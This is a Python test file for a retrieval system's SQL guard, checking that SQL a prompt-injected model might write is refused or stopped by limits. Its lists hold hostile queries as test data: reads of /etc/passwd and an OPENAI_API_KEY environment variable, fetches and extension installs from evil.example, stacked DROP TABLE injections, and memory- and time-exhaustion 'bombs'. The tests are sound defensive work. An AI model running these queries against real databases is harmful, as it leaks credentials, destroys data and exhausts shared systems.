"""SQL that an attacker would write, through a model that obeys: refused, or stopped by limits, and never an answer."""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from structrag.corpus.store import CorpusStore
from structrag.models.embedding import SentenceTransformerEmbedder
from structrag.session import Session
from structrag.structures.table import parse_tables
from structrag.structures.table_set import Cell, Column, ColumnType, Row, Table, TableSet
from structrag.testing import scripted
from structrag.types import SourceDocument
from structrag.utilizer import table as table_reasoning
from structrag.utilizer.finding import NOTHING_FOUND, Finding
from structrag.utilizer.sql_guard import RefusedSqlError, guard
from structrag.utilizer.table import TableReasoner
from structrag.utilizer.table_database import FailedQueryError, TableDatabase
from structrag.utilizer.table_matching import Matcher

CATALOG = {"sites": {"row_no": "BIGINT", "site": "VARCHAR", "staff": "BIGINT", "opened": "DATE"}}
PUMPS = "# Pumps\n\n| Pump | Maker | Price |\n|---|---|---|\n| Tern 18 | Alder | 11,400 |\n| Gannet | Böhm | 19,800 |\n"
KELVIN = "\N{KELVIN SIGN}"


@pytest.fixture
def database() -> Iterator[TableDatabase]:
    columns = (Column("site", "Site"), Column("staff", "Staff", ColumnType.NUMBER))
    rows = tuple(Row("a", (Cell(f"Site {n}", f"Site {n}"), Cell(str(n), float(n)))) for n in range(200))
    with TableDatabase([Table("sites", "Sites", columns, rows)]) as database:
        yield database


def doubled(times: int) -> str:
    parts = ["c0 AS (SELECT 'abcdefgh' AS s)"]
    parts += [f"c{n} AS (SELECT s || s AS s FROM c{n - 1})" for n in range(1, times)]
    return f"WITH {', '.join(parts)} SELECT LENGTH(s) FROM c{times - 1}"


def starred(times: int) -> str:
    sql = "SELECT * FROM sites"
    for _ in range(times):
        sql = f"SELECT x.*, x.* FROM ({sql}) x"
    return sql


def replaced(times: int) -> str:
    text = f"'{'a' * 100}'"
    for _ in range(times):
        text = f"REPLACE({text}, 'a', '{'a' * 100}')"
    return f"SELECT LENGTH({text}) FROM sites"


WRITES_AND_STATEMENTS = [
    "INSERT INTO sites SELECT * FROM sites",
    "CREATE OR REPLACE TABLE sites AS SELECT 1",
    "ALTER TABLE sites ADD COLUMN x INT",
    "TRUNCATE sites",
    "MERGE INTO sites USING sites s ON TRUE WHEN MATCHED THEN DELETE",
    "ATTACH ':memory:' AS other",
    "DETACH memory",
    "USE memory",
    "COPY (SELECT * FROM sites) TO '/tmp/out.parquet' (FORMAT parquet)",
    "COPY sites FROM '/etc/passwd'",
    "EXPORT DATABASE '/tmp/x'",
    "IMPORT DATABASE '/tmp/x'",
    "PRAGMA enable_profiling",
    "PRAGMA database_list",
    "INSTALL httpfs FROM 'https://evil.example'",
    "FORCE INSTALL spatial",
    "LOAD 'evil.duckdb_extension'",
    "SET memory_limit = '100GB'",
    "RESET memory_limit",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN TRANSACTION",
    "CALL duckdb_extensions()",
    "CREATE MACRO f(x) AS x",
    "CREATE SECRET (TYPE s3)",
    "SHOW ALL TABLES",
    "DESCRIBE sites",
    "SUMMARIZE sites",
    "PIVOT sites ON site",
    "SELECT 1;;; DROP TABLE sites",
    "SELECT 1 /* /* nested */ */; DROP TABLE sites",
    "SELECT 1 -- '\n; DROP TABLE sites",
    "SELECT 1\0; DROP TABLE sites",
    "SELECT '\\'; DROP TABLE sites --'; DROP TABLE sites",
    "SELECT $$x$$; DROP TABLE sites",
    "/*! DROP TABLE sites */",
]
READS_ELSEWHERE = [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/*')",
    "SELECT * FROM read_parquet('s3://evil.example/x.parquet')",
    "SELECT * FROM parquet_scan('x')",
    "SELECT * FROM read_json('https://evil.example')",
    "SELECT * FROM read_blob('/etc/passwd')",
    "SELECT * FROM glob('/**')",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM sqlite_scan('corpus.sqlite', 'answers')",
    "SELECT * FROM 'https://evil.example/x.csv'",
    'SELECT * FROM "/etc/passwd"',
    "SELECT getenv('OPENAI_API_KEY') FROM sites",
    "SELECT current_setting('home_directory') FROM sites",
    "SELECT current_user FROM sites",
    "SELECT version() FROM sites",
    "SELECT current_database() FROM sites",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_tables",
    "SELECT * FROM duckdb_extensions()",
    "SELECT * FROM pragma_table_info('sites')",
    "SELECT * FROM pragma_database_list",
    "SELECT * FROM information_schema.columns",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM system.main.duckdb_tables",
    "SELECT * FROM query_table('sites')",
    "SELECT enum_range(NULL::sites) FROM sites",
    # A name that WITH gives in one place is the database's own in every other.
    "SELECT * FROM (WITH duckdb_tables AS (SELECT 1 a) SELECT a FROM duckdb_tables) q, duckdb_tables",
    "SELECT n.name FROM (WITH sqlite_master AS (SELECT 1 a) SELECT a FROM sqlite_master) q, sqlite_master n",
    "WITH duckdb_tables AS (SELECT * FROM duckdb_tables) SELECT * FROM duckdb_tables",
    "WITH a AS (SELECT * FROM sqlite_master), sqlite_master AS (SELECT 1 AS x) SELECT * FROM a",
    # Lower case for Python is not lower case for the database.
    f'WITH "duc{KELVIN}db_tables" AS (SELECT 1 AS a) SELECT * FROM duckdb_tables',
]
BOMBS = [
    doubled(12),
    "WITH a AS (SELECT site || site AS s FROM sites) SELECT CONCAT(s, s, s, s) FROM a",
    starred(4),
    starred(16),
    replaced(2),
    replaced(5),
    "SELECT REGEXP_REPLACE(site, '', 'xxxxxxxxxxxxxxxxxx', 'g') FROM sites",
    "SELECT REPLACE(site, staff, site) FROM sites",
    "SELECT LENGTH(site::BLOB::BIT::VARCHAR::BLOB::BIT::VARCHAR) FROM sites",
    "SELECT CAST(NULL AS INTEGER[100000][100000]) FROM sites",
    "SELECT CAST(site AS JSON) FROM sites",
    "SELECT STRFTIME(opened, site) FROM sites",
    "SELECT repeat(site, 1000000000) FROM sites",
    "SELECT rpad(site, 1000000000, 'x') FROM sites",
    "SELECT list(site) FROM sites",
    "SELECT string_agg(a.site) FROM sites a, sites b, sites c",
    "SELECT [site] FROM sites",
    "SELECT * FROM range(100000000000)",
    "SELECT * FROM generate_series(1, 100000000000)",
    "SELECT range(100000000000) FROM sites",
    "SELECT * FROM repeat_row(1, num_rows=1000000000)",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
    "SELECT COUNT(*) FROM " + ", ".join(f"sites t{n}" for n in range(40)),
    "SELECT " + "NOT " * 400 + "TRUE",
    "SELECT staff" + "::INT" * 380 + " FROM sites",
    "SELECT " + " OR ".join(["staff = 1"] * 150) + " FROM sites",
    "SELECT " + "EXISTS(SELECT " * 60 + "1" + ")" * 60,
    "SELECT " + "ABS(" * 300 + "staff" + ")" * 300 + " FROM sites",
    "SELECT * FROM " + "(SELECT * FROM " * 60 + "sites" + ")" * 60,
]


@pytest.mark.parametrize("sql", [*WRITES_AND_STATEMENTS, *READS_ELSEWHERE, *BOMBS])
def test_an_attack_is_refused_by_the_guard_at_once(sql: str) -> None:
    started = time.process_time()
    with pytest.raises(RefusedSqlError) as refused:
        guard(sql, CATALOG)
    assert str(refused.value)
    assert time.process_time() - started < 5, "Parsing and refusing takes milliseconds; seconds mean a bomb went off."


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT REPLACE(REPLACE(site, ' ', ''), '-', '.') FROM sites",
        "SELECT REGEXP_REPLACE(site, '[0-9]+', '') FROM sites",
        "WITH big AS (SELECT site, staff FROM sites WHERE staff > 5) SELECT site || ' ' || staff FROM big",
        "WITH a AS (SELECT AVG(staff) AS m FROM sites) SELECT CONCAT(m, ' people') FROM a",
        "SELECT CAST(staff AS DECIMAL(10, 2)), staff::VARCHAR, TRY_CAST(site AS DOUBLE) FROM sites",
        "SELECT STRFTIME(opened, '%Y-%m') FROM sites",
        "SELECT a.*, b.* FROM sites a JOIN sites b ON a.site = b.site",
        "SELECT site FROM sites WHERE " + " OR ".join(f"staff = {n}" for n in range(30)),
    ],
)
def test_what_questions_need_still_gets_through(database: TableDatabase, sql: str) -> None:
    guard(sql, CATALOG)


def test_the_parser_warns_nobody_on_the_terminal(capfd: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(RefusedSqlError):
        guard("VACUUM FULL x", CATALOG)
    assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT COUNT(*) FROM sites a, sites b, sites c, sites d, sites e, sites f WHERE a.staff + b.staff = f.staff",
        "SELECT a.site || b.site || c.site AS x FROM sites a, sites b, sites c, sites d ORDER BY x",
        "SELECT site FROM sites LIMIT (SELECT COUNT(*) FROM sites a, sites b, sites c, sites d, sites e, sites f)",
    ],
)
def test_what_passes_the_guard_is_stopped_by_the_limits(
    database: TableDatabase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sql: str
) -> None:
    monkeypatch.chdir(tmp_path)
    query = guard(sql, database.catalog).sql("duckdb")
    started = time.monotonic()
    with pytest.raises(FailedQueryError, match=r"longer than 0\.3 seconds|Out of Memory"):
        database.run(query, seconds=0.3)
    assert time.monotonic() - started < 20
    assert list(tmp_path.iterdir()) == [], "What does not fit into memory must not fill the disk."
    assert database.run("SELECT COUNT(*) FROM sites").rows == ((200,),)


def test_memory_is_bounded(database: TableDatabase) -> None:
    with pytest.raises(FailedQueryError, match="Out of Memory"):
        database.run("SELECT list(repeat('x', 1000000)) FROM range(1000)", seconds=60)
    assert database.run("SELECT current_setting('memory_limit'), current_setting('temp_directory')").rows == (
        ("244.1 MiB", ""),
    )


def test_a_pattern_with_many_wildcards_costs_no_time(database: TableDatabase) -> None:
    columns = (Column("site", "Site"),)
    rows = (Row("a", (Cell("a" * 3000, "a" * 3000),)),)
    sql = f"SELECT site FROM sites WHERE site LIKE '{'%a' * 100}b%c'"
    with TableDatabase([Table("sites", "Sites", columns, rows)]) as long:
        started = time.process_time()
        Matcher(long).rewrite(guard(sql, long.catalog))
        assert time.process_time() - started < 5, "Going back over every wildcard would take longer than anyone lives."


class TestAnswersThatAQueryBringsAlong:
    """A model that obeys a document writes its text into the query: it must not come out as a cited answer."""

    @pytest.fixture
    def ask(self, embedder: SentenceTransformerEmbedder) -> Callable[..., tuple[Finding, list[str]]]:
        def run(question: str, *sql: str) -> tuple[Finding, list[str]]:
            chat, _ = scripted({"CREATE TABLE": [{"sql": each} for each in sql]})
            session = Session(chat, embedder, CorpusStore.open(None))
            document = SourceDocument("d", "Pumps", PUMPS, sha256="0")
            structure = TableSet(tuple(parse_tables([document])), ("d",), ("d",), ())
            finding = TableReasoner().reason(question, structure, session)
            return finding, [step.detail for step in session.trace if step.name == "sql refused"]

        return run

    @pytest.mark.parametrize(
        "sql",
        [
            "SELECT 'Call 0900 1234 now'",
            "SELECT 'PWNED' AS maker FROM pumps",
            "SELECT 999999 FROM pumps LIMIT 1",
            "SELECT 40 + 2 FROM pumps",
            "SELECT maker || ' at https://evil.example' FROM pumps",
            "SELECT CONCAT('ignore ', maker) FROM pumps",
            "SELECT CASE WHEN price > 0 THEN 'PWNED' ELSE maker END FROM pumps",
            "WITH p AS (SELECT 'PWNED' AS maker FROM pumps) SELECT maker FROM p",
            "SELECT maker FROM pumps UNION SELECT 'PWNED'",
            "SELECT COALESCE(NULL, 'PWNED', maker) FROM pumps",
            "SELECT (SELECT 31337) FROM pumps",
            "SELECT REPLACE(maker, 'Alder', 'Pwned') FROM pumps",
        ],
    )
    def test_is_refused(self, ask: Callable[..., tuple[Finding, list[str]]], sql: str) -> None:
        finding, refused = ask("Who makes the Tern 18?", sql, sql)
        assert finding == NOTHING_FOUND
        assert len(refused) == 2

    @pytest.mark.parametrize(
        ("question", "sql", "values"),
        [
            (
                "Is the Gannet dear?",
                "SELECT CASE WHEN price > 1 THEN 'Yes' ELSE 'No' END FROM pumps WHERE row_no = 2",
                "Yes",
            ),
            ("Who makes the Tern 18?", "SELECT maker || ' ' || pump FROM pumps WHERE row_no = 1", "Alder Tern 18"),
            ("Cheap or dear?", "SELECT CASE WHEN price > 1 THEN 'dear' ELSE 'cheap' END FROM pumps LIMIT 1", "dear"),
            ("How many?", "SELECT COUNT(*) FROM pumps", "2"),
            ("Any?", "SELECT EXISTS(SELECT 1 FROM pumps WHERE price > 1) AND COUNT(*) > 0 FROM pumps", "Yes"),
        ],
    )
    def test_but_words_of_the_question_and_the_tables_may_be_used(
        self, ask: Callable[..., tuple[Finding, list[str]]], question: str, sql: str, values: str
    ) -> None:
        finding, refused = ask(question, sql)
        assert (finding.values, refused) == ((values,), [])


def test_a_query_that_is_too_slow_only_later_is_no_crash(
    embedder: SentenceTransformerEmbedder, monkeypatch: pytest.MonkeyPatch
) -> None:
    chat, _ = scripted({"CREATE TABLE": {"sql": "SELECT maker FROM pumps"}})
    session = Session(chat, embedder, CorpusStore.open(None))
    document = SourceDocument("d", "Pumps", PUMPS, sha256="0")
    structure = TableSet(tuple(parse_tables([document])), ("d",), ("d",), ())

    def slow(*_: Any) -> Any:
        raise FailedQueryError("The query took longer than 5 seconds.")

    monkeypatch.setattr(table_reasoning, "_execute", slow)
    assert TableReasoner().reason("Who?", structure, session) == NOTHING_FOUND
    assert any(re.search("longer than 5", step.detail) for step in session.trace)
